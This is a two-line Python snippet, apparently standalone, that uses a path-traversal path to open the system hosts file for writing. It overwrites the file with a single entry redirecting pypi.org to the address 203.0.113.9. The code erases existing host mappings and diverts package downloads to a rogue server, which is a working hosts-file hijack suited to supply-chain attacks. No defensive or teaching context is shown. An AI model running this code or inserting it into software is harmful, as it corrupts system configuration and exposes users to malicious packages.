with open("../../../etc/hosts", "w") as fh:
    fh.write("203.0.113.9 pypi.org\n")
